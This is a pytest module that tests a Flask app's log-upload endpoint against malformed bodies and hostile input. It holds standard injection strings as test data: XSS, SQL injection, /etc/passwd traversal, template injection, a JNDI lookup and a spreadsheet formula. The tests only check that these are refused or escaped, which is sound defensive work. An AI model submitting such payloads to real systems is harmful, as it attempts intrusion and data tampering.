"""Hostile and malformed uploads: each is refused with a 4xx naming the problem, or
stored safely and always rendered escaped; the stored data is otherwise unchanged.

The edit-based cases live in bad_logs/cases.json (regenerate with make_cases.py); raw
bodies and request-level attacks are listed below.
"""

from __future__ import annotations

import copy
import json
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from instructor_support import _config, _drop, add_instructor, bearer, enrol, login
from markupsafe import escape

from escape_home.instructor import create_app
from escape_home.instructor.sample import make_log
from escape_home.instructor.text import clean_name

CASES = json.loads((Path(__file__).parent / "bad_logs" / "cases.json").read_text())
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE exercise_session; --",
    "../../../../etc/passwd",
    "{{7*7}}{% raw %}",
    '=HYPERLINK("http://x","y")',
    "\u202eevil\u202c",
    "${jndi:ldap://x/a}",
    "</textarea><svg onload=alert(1)>",
]


class Server:
    """One app and one enrolled participant shared by the module (fast)."""

    def __init__(self, app: Flask) -> None:
        self.app = app
        add_instructor(app, "alice")
        self.web = login(app, "alice")
        self.cohort_id, self.code = self.web.create_cohort()
        self.pid, self.token = enrol(app, self.code, "Jo")
        self.base = make_log(sessions=2, reps=3, seed=11)
        r = self.post(json.dumps(self.base).encode())
        assert r.status_code == 201
        self.baseline = self.snapshot()

    def post(self, body: bytes, token: str | None = None, **kw: Any) -> Any:
        headers = bearer(token or self.token) if token != "" else {}
        return self.app.test_client().post(
            "/api/logs",
            data=body,
            headers=headers,
            content_type="application/json",
            **kw,
        )

    def snapshot(self) -> list[Any]:
        from sqlalchemy import text

        from escape_home.instructor import db

        with self.app.app_context():
            rows = (
                db.session()
                .execute(
                    text(
                        "select uuid, data, updated_at from exercise_session"
                        " order by uuid"
                    )
                )
                .all()
            )
            return [tuple(r) for r in rows]


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    # Hundreds of uploads from one token: the per-token limit (test_flood.py) lifted.
    config = _config(tmp_path_factory.mktemp("bad"), "sqlite")
    app = create_app({**config, "UPLOAD_RATE_LIMIT": "100000 per minute"})
    yield Server(app)
    _drop(app)


def _get(obj: Any, parts: list[str]) -> Any:
    for part in parts:
        obj = obj[int(part)] if isinstance(obj, list) else obj[part]
    return obj


def _value(log: dict[str, Any], spec: Any) -> Any:
    if isinstance(spec, dict) and len(spec) == 1:
        ((kind, arg),) = spec.items()
        if kind == "$copy":
            return copy.deepcopy(_get(log, arg.split(".")))
        if kind == "$repeat":
            return [arg[0]] * arg[1]
        if kind == "$repeat_copy":
            return [copy.deepcopy(_get(log, arg[0].split(".")))] * arg[1]
        if kind == "$keys":
            return {f"{arg[0]}{i}": arg[2] for i in range(arg[1])}
    return spec


def apply(base: dict[str, Any], edits: list[list[Any]]) -> dict[str, Any]:
    log = copy.deepcopy(base)
    for op, path, *rest in edits:
        *parent_parts, last = path if isinstance(path, list) else path.split(".")
        parent = _get(log, parent_parts)
        key: Any = int(last) if isinstance(parent, list) else last
        if op == "del":
            del parent[key]
        elif isinstance(parent, list) and key == len(parent):
            parent.append(_value(log, rest[0]))
        else:
            parent[key] = _value(log, rest[0])
    return log


def test_corpus_is_big_enough() -> None:
    assert len(CASES) + len(RAW) + len(HOSTILE) * 4 >= 200


@pytest.mark.parametrize("case", CASES, ids=[c["name"] for c in CASES])
def test_bad_log_is_refused_naming_the_field(
    server: Server, case: dict[str, Any]
) -> None:
    body = json.dumps(apply(server.base, case["edits"])).encode()
    r = server.post(body)
    assert r.status_code == case["status"], r.get_data(as_text=True)[:300]
    error = r.get_json()["error"]
    assert case["expect"] in error, f"expected {case['expect']!r} in {error!r}"
    assert len(error) < 300  # names the problem without echoing the upload
    assert server.snapshot() == server.baseline


DEEP = b"[" * 100_000 + b"]" * 100_000
RAW: list[tuple[str, bytes, int, str]] = [
    ("empty body", b"", 400, "not valid JSON"),
    ("whitespace", b"  \n ", 400, "not valid JSON"),
    (
        "truncated",
        b'{"format": "escape-home-progress-log", "vers',
        400,
        "not valid JSON",
    ),
    ("null", b"null", 422, "must be an object"),
    ("list", b"[]", 422, "must be an object"),
    ("string", b'"log"', 422, "must be an object"),
    ("number", b"12", 422, "must be an object"),
    ("invalid UTF-8 start", b"\xff\xfe{}", 400, "UTF-8"),
    ("invalid UTF-8 inside", b'{"a": "\xc3\x28"}', 400, "UTF-8"),
    ("overlong UTF-8", b'{"a": "\xc0\xaf"}', 400, "UTF-8"),
    ("UTF-16", '{"format": 1}'.encode("utf-16"), 400, "UTF-8"),
    ("latin-1 text", '{"a": "café"}'.encode("latin-1"), 400, "UTF-8"),
    ("NaN", b'{"a": NaN}', 400, "NaN"),
    ("Infinity", b'{"a": Infinity}', 400, "Infinity"),
    ("-Infinity", b'{"a": -Infinity}', 400, "Infinity"),
    ("1e999", b'{"a": 1e999}', 400, "out of range"),
    ("huge integer", b'{"a": ' + b"9" * 5000 + b"}", 400, "out of range"),
    (
        "duplicate key",
        b'{"format": "x", "format": "escape-home-progress-log"}',
        400,
        "appears twice",
    ),
    ("deep nesting 100k", DEEP, 400, "nested"),
    ("deep nesting 20", b'{"a":' * 20 + b"1" + b"}" * 20, 422, "nested deeper"),
    ("single quotes", b"{'format': 1}", 400, "not valid JSON"),
    ("trailing comma", b'{"a": 1,}', 400, "not valid JSON"),
    ("comment", b'{"a": 1 /* x */}', 400, "not valid JSON"),
    ("two documents", b"{} {}", 400, "not valid JSON"),
    ("xml", b"<?xml version='1.0'?><log/>", 400, "not valid JSON"),
    ("form data", b"format=escape-home-progress-log&version=1", 400, "not valid JSON"),
]


@pytest.mark.parametrize("name,body,status,expect", RAW, ids=[r[0] for r in RAW])
def test_raw_body_is_refused(
    server: Server, name: str, body: bytes, status: int, expect: str
) -> None:
    r = server.post(body)
    assert r.status_code == status, r.get_data(as_text=True)[:300]
    assert expect in r.get_json()["error"]
    assert server.snapshot() == server.baseline


def test_50_mb_body_is_413_before_it_is_read(server: Server) -> None:
    body = b'{"format": "' + b"x" * (50 * 1024 * 1024) + b'"}'
    r = server.post(body)
    assert r.status_code == 413
    assert "too large" in r.get_json()["error"]
    assert server.snapshot() == server.baseline


def test_bom_is_accepted(server: Server) -> None:
    r = server.post(b"\xef\xbb\xbf" + json.dumps(server.base).encode())
    assert r.status_code == 200
    assert server.snapshot() == server.baseline


@pytest.mark.parametrize(
    "header",
    [
        "",
        "Basic dXNlcjpwYXNz",
        "Bearer",
        "Bearer ",
        "Token abc",
        "Bearer " + "a" * 5000,
        "Bearer ' OR '1'='1",
        "Bearer ../../etc/passwd",
        "Bearer \u00e9\u00e9",
    ],
)
def test_bad_authorization_is_401(server: Server, header: str) -> None:
    headers = {"Authorization": header} if header else {}
    r = server.app.test_client().post(
        "/api/logs",
        data=json.dumps(server.base),
        headers=headers,
        content_type="application/json",
    )
    assert r.status_code == 401
    assert "token" in r.get_json()["error"]
    assert server.snapshot() == server.baseline


def test_other_participants_token_cannot_upload_this_log(server: Server) -> None:
    _, other = enrol(server.app, server.code, "Other")
    r = server.post(json.dumps(server.base).encode(), token=other)
    assert r.status_code == 409
    assert server.snapshot() == server.baseline


def test_wrong_method_is_405(server: Server) -> None:
    assert server.app.test_client().get("/api/logs").status_code == 405


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_text_is_stored_and_rendered_escaped(
    server: Server, payload: str
) -> None:
    log = copy.deepcopy(server.base)
    log["sessions"][0]["sets"][0]["reps"][0]["faults"][0]["cue"] = payload
    log["sessions"][0]["sets"][0]["warnings"] = [payload]
    log["tests"][0]["norm"]["band"] = payload
    # A new session ID and test ID so the hostile copy is stored beside the baseline.
    log["sessions"] = [log["sessions"][0]]
    log["sessions"][0]["id"] = str(uuid.uuid4())
    log["tests"][0]["id"] = str(uuid.uuid4())
    r = server.post(json.dumps(log).encode())
    assert r.status_code == 201, r.get_data(as_text=True)
    server.baseline = server.snapshot()
    _, token = enrol(server.app, server.code, payload)  # hostile nickname too
    assert token
    page = server.web.client.get(f"/participants/{server.pid}").get_data(as_text=True)
    cohort = server.web.client.get(f"/cohorts/{server.cohort_id}").get_data(
        as_text=True
    )
    for html in (page, cohort):
        if "<" in payload or '"' in payload:
            assert payload not in html
    assert str(escape(payload)) in page
    # The nickname is normalised on the way in (bidi controls removed: item 8).
    assert str(escape(clean_name(payload))) in cohort
    csv = server.web.client.get(f"/cohorts/{server.cohort_id}/export.csv")
    for line in csv.get_data(as_text=True).splitlines():
        for cell in line.split(","):
            assert not cell.startswith(("=", "+", "@")), cell
